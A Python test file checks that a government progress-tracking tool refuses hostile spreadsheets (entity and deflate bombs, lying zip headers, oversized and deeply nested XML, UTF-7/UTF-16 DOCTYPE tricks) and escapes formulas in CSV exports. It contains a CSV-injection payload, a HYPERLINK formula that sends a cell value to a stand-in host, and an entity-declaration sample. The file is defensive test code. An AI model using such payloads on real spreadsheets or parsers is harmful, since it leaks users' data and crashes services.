#!/usr/bin/env python3
"""test_sheet_limits.py LUOSHI FIXTURES — the tables offices send back,
against files made to hurt (issue 17): an entity bomb, a deflate bomb, a
zip whose headers lie about sizes, a million rows, a value in column 65 and
in row 200,001, a member past 64 MB, XML nested, attributed or run on past
what a workbook has; each is refused by `luoshi progress --from-xlsx` and
`luoshi assign --from` (exit 1) and by /api/v1/progress/import and
/api/v1/assignments (400), with the file and the limit named, the ledger
unchanged and the server still answering. A styled empty cell past column
64 is no value. CSV written by the project never holds a formula: text
beginning with =, +, -, @ (a unit's progress, a leader's name) gets an
apostrophe in `export --format csv`, `history --format csv` and
/api/v1/export, numbers stay numbers, and the apostrophe comes off again
when the CSV is read back. The attack files are generated here
(sheet_attacks.py), small on disk.
"""
import csv
import io
import json
import os
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import sheet_attacks as attacks  # noqa: E402
from api_client import Client, Server, check, cli, finish  # noqa: E402

# each attack: what the error must say (the limit and where)
EXPECT = {
    "entity-bomb.xlsx": "xl/sharedStrings.xml declares a DOCTYPE",
    "deflate-bomb.xlsx": "the worksheet inflates to more than 100 times its compressed size",
    "lying-sizes.xlsx": "the worksheet inflates to more than 100 times its compressed size",
    "million-rows.xlsx": "cell A200001: a value past row 200000, the limit",
    "big-sheet.xlsx": "the worksheet inflates past 64 MB (the limit)",
    "column-65.xlsx": "cell BM2: a value past column 64 (BL), the limit",
    "row-200001.xlsx": "cell A200001: a value past row 200000, the limit",
    "deep.xlsx": "the worksheet nests elements deeper than 64 (the limit)",
    "many-attributes.xlsx": "more than 64 attributes on an element (the limit)",
    "long-text.xlsx": "a text or comment longer than 1 MB (the limit)",
}


def make_attacks(tmp):
    """The attack files, by name; each a few KB to a few MB."""
    paths = {}
    for name in EXPECT:
        path = os.path.join(tmp, name)
        if name == "lying-sizes.xlsx":
            attacks.lying_sizes(path, paths["deflate-bomb.xlsx"])
        else:
            attacks.ALL[name](path)
        paths[name] = path
    return paths


def main():
    luoshi, fixtures = sys.argv[1], sys.argv[2]
    with tempfile.TemporaryDirectory() as tmp:
        db = os.path.join(tmp, "limits.db")
        env = dict(os.environ, LUOSHI_DB=db, LUOSHI_USER="督查室")
        env.setdefault("ASAN_OPTIONS", "detect_leaks=1")
        cli(luoshi, env, "import", os.path.join(fixtures, "datong-2023.txt"), "--gov", "大同市",
            "--year", "2023")
        cli(luoshi, env, "units", "add", "能源局")
        paths = make_attacks(tmp)
        on_the_cli(luoshi, env, tmp, paths)
        csv_limits(luoshi, env, tmp)
        formulas(luoshi, env, tmp)
        server = Server(luoshi, db, env)
        try:
            on_the_server(server, paths)
        finally:
            server.stop()
    return finish()


def ledger(luoshi, env):
    return cli(luoshi, env, "tasks", "--format", "json").stdout


def on_the_cli(luoshi, env, tmp, paths):
    """Every attack: exit 1, the file and the limit named, nothing changed."""
    before = ledger(luoshi, env)
    for name, path in paths.items():
        r = cli(luoshi, env, "progress", "--from-xlsx", path, code=1)
        check(path in r.stderr and EXPECT[name] in r.stderr,
              f"progress --from-xlsx {name}: {r.stderr.strip()}")
    for name in ("entity-bomb.xlsx", "deflate-bomb.xlsx", "million-rows.xlsx"):
        r = cli(luoshi, env, "assign", "--from", paths[name], "--report", "1", code=1)
        check(EXPECT[name] in r.stderr, f"assign --from {name}: {r.stderr.strip()}")
    check(ledger(luoshi, env) == before, "a refused file changed the ledger")
    # members are UTF-8 whatever they declare: a DOCTYPE spelt in UTF-7 is no
    # DOCTYPE but a damaged member, a byte that is not UTF-8 too (and nothing
    # from libxml2 on stderr); UTF-16, which would hide "<!" from the
    # guard, is refused by its NUL bytes
    for name, body in (("utf7.xlsx", '<?xml version="1.0" encoding="UTF-7"?><+ACE-DOCTYPE sst '
                        '[<+ACE-ENTITY e "AAAA">]><sst><si><t>&e;</t></si></sst>'),
                       ("not-utf8.xlsx", '<?xml version="1.0" encoding="UTF-7"?><sst><si><t>'
                        '\udce9\udc9e b</t></si></sst>')):
        bad = attacks.workbook(os.path.join(tmp, name), [attacks.HEADER_ROW], shared=[body])
        r = cli(luoshi, env, "progress", "--from-xlsx", bad, code=1)
        check(r.stderr == f"luoshi progress: {bad}: the workbook is damaged\n", r.stderr)
    utf16 = attacks.workbook(os.path.join(tmp, "utf16.xlsx"), [attacks.HEADER_ROW], shared=[
        '\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE sst [<!ENTITY e "A">]><sst/>'],
        shared_codec="utf-16-le")
    r = cli(luoshi, env, "progress", "--from-xlsx", utf16, code=1)
    check("xl/sharedStrings.xml is not UTF-8 text (a NUL byte)" in r.stderr, r.stderr)
    # a styled empty cell past column 64 is no value: the file reads, and
    # is judged by the ledger (a line reported on with no 序号)
    styled = attacks.value_at(os.path.join(tmp, "styled.xlsx"), "B2", "已开工",
                              blank_style_at="BZ2")
    r = cli(luoshi, env, "progress", "--from-xlsx", styled, code=1)
    check("row 2, column 序号" in r.stderr and "limit" not in r.stderr, r.stderr.strip())
    # the largest sheet within the limits reads: 200,000 rows
    edge = os.path.join(tmp, "edge.xlsx")
    attacks.workbook(edge, [attacks.HEADER_ROW, "".join(
        f'<row r="{r}"><c r="C{r}"><v>{r}</v></c></row>' for r in range(2, 200001))])
    r = cli(luoshi, env, "progress", "--from-xlsx", edge)
    check("merged 0 new" in r.stdout, f"200,000 rows: {r.stdout} {r.stderr}")


def csv_limits(luoshi, env, tmp):
    """CSV: the same limits on rows and columns, named."""
    wide = os.path.join(tmp, "wide.csv")
    with open(wide, "w", encoding="utf-8") as f:
        f.write("序号,进展情况\n" + ",".join(["x"] * 65) + "\n")
    r = cli(luoshi, env, "progress", "--from-xlsx", wide, code=1)
    check("wide.csv: line 2: a value past column 64 (BL), the limit" in r.stderr, r.stderr)
    long = os.path.join(tmp, "long.csv")
    with open(long, "w", encoding="utf-8") as f:
        f.write("序号,进展情况\n" + "1\n" * 200000)
    r = cli(luoshi, env, "progress", "--from-xlsx", long, code=1)
    check("long.csv: line 200001: a value past row 200000, the limit" in r.stderr, r.stderr)


def formulas(luoshi, env, tmp):
    """Text that would be a formula is written behind an apostrophe, in
    every CSV; numbers are not; reading the CSV back takes it off."""
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    cli(luoshi, env, "assign", "2", "--lead", "能源局", "--leader", "+1+1")
    cli(luoshi, env, "progress", "2", "--date", "2023-06-30", "--done-text", evil,
        "--problems", "-2+3", "--next", "@SUM(1)", "--by", "能源局", "--percent", "40")
    out = cli(luoshi, env, "export", "--format", "csv", "--layout", "baosong").stdout
    rows = {r[0]: r for r in csv.reader(io.StringIO(out.lstrip("\ufeff")))}
    head = rows["序号"]
    two = dict(zip(head, rows["2"]))
    check(two["进展情况"] == "'" + evil and two["存在问题"] == "'-2+3" and
          two["下一步措施"] == "'@SUM(1)" and two["完成比例(%)"] == "40",
          f"export csv: {two}")
    zhibiao = cli(luoshi, env, "export", "--format", "csv", "--layout", "zhibiao").stdout
    lines = list(csv.reader(io.StringIO(zhibiao.lstrip("\ufeff"))))
    col = lines[0].index("较上年(%)")
    negative = [line[col] for line in lines[1:] if line[col].startswith(("-", "'-"))]
    check(negative and all(v.startswith("-") for v in negative),
          f"negative numbers stay numbers: {negative[:5]}")
    op = lines[0].index("比较")
    check("=" in {line[op] for line in lines[1:]}, "a lone = stays as it is")
    hist = cli(luoshi, env, "history", "2", "--format", "csv").stdout
    check(",'+1+1\n" in hist and ",+1+1" not in hist, f"history --format csv: {hist}")
    # the 报送表 back as CSV: the same report, nothing new
    back = os.path.join(tmp, "baosong.csv")
    with open(back, "w", encoding="utf-8") as f:
        f.write(out)
    r = cli(luoshi, env, "progress", "--from-xlsx", back)
    check("merged 0 new" in r.stdout, f"the guarded CSV read back: {r.stdout} {r.stderr}")
    got = {t["id"]: t for t in json.loads(ledger(luoshi, env))}[2]["progress"]
    check(got["done_text"] == evil and got["problems"] == "-2+3", f"stored as written: {got}")


def on_the_server(server, paths):
    """The same files uploaded: 400 naming the limit; the server answers."""
    admin = Client(server.base)
    check(admin.login("admin", server.password).status == 200, "admin signs in")
    for route, names in (("/api/v1/progress/import", EXPECT.keys()),
                         ("/api/v1/assignments", ("entity-bomb.xlsx", "deflate-bomb.xlsx",
                                                  "million-rows.xlsx", "column-65.xlsx"))):
        for name in names:
            with open(paths[name], "rb") as f:
                data = f.read()
            r = admin.request("POST", route, form={"report": "1"}, files={"file": (name, data)})
            msg = r.json().get("error", {}).get("message", "") if r.status != 200 else ""
            check(r.status == 400 and EXPECT[name] in msg, f"{route} {name}: {r}")
    # four at once, on as many threads: each refused on its own, once an
    # upload slot is free (503 with Retry-After until then: docs/api.md)
    results = []

    def upload(name):
        with open(paths[name], "rb") as f:
            data = f.read()
        for _ in range(60):
            r = admin.request("POST", "/api/v1/progress/import", files={"file": (name, data)})
            if r.status != 503:
                break
            check(r.headers.get("Retry-After"), f"a busy answer says when to retry: {r}")
            time.sleep(0.2)
        results.append((name, r.status, r.json().get("error", {}).get("message", "")))
    threads = [threading.Thread(target=upload, args=(n,)) for n in
               ("deflate-bomb.xlsx", "entity-bomb.xlsx", "million-rows.xlsx", "lying-sizes.xlsx")]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    check(len(results) == 4 and all(code == 400 and EXPECT[n] in m for n, code, m in results),
          f"four uploads at once: {results}")
    csv_out = admin.get("/api/v1/export", query={"format": "csv", "layout": "baosong"})
    check(csv_out.status == 200 and "'=HYPERLINK(" in csv_out.text() and
          ",=HYPERLINK(" not in csv_out.text(), f"/api/v1/export csv: {csv_out}")
    check(server.alive() and admin.get("/api/v1/me").status == 200, "the server still answers")


if __name__ == "__main__":
    sys.exit(main())
